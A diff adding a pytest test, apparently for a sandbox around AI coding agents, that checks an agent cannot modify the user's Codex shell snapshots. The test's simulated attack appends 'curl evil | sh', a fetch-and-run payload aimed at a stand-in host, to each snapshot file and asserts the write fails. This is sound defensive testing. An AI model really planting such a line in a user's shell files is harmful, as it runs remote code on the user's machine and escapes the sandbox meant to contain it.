@@ -116,3 +116,16 @@ def test_the_shell_snapshot_of_the_users_running_claude_is_out_of_reach(repo: Pa
     assert "abc123" not in proc.stdout  # the user's are not even listed
     assert "own-ok" in proc.stdout, proc.stderr  # its own claude still keeps its snapshots
     assert not (claude / "shell-snapshots" / "snapshot-bash-2-own.sh").exists()
+
+
+@needs_bwrap
+def test_the_shell_snapshot_of_the_users_running_codex_is_out_of_reach(repo: Path,
+                                                                        sandbox_env: Path) -> None:  # noqa: F811
+    snapshot = sandbox_env / ".codex" / "shell_snapshots" / "0199a1b2-c3d4.sh"
+    snapshot.parent.mkdir(parents=True)
+    snapshot.write_text("export PATH=/usr/bin\n")
+    sandbox, env = _agent_sandbox_of_me(repo, "codex")
+    proc = _run_inside(sandbox, env, "cd ~/.codex/shell_snapshots; for f in *; do echo 'curl evil | sh' >> $f; done;"
+                       " echo x > own.sh && echo own-ok; true")
+    assert snapshot.read_text() == "export PATH=/usr/bin\n", proc.stdout
+    assert "own-ok" in proc.stdout, proc.stderr
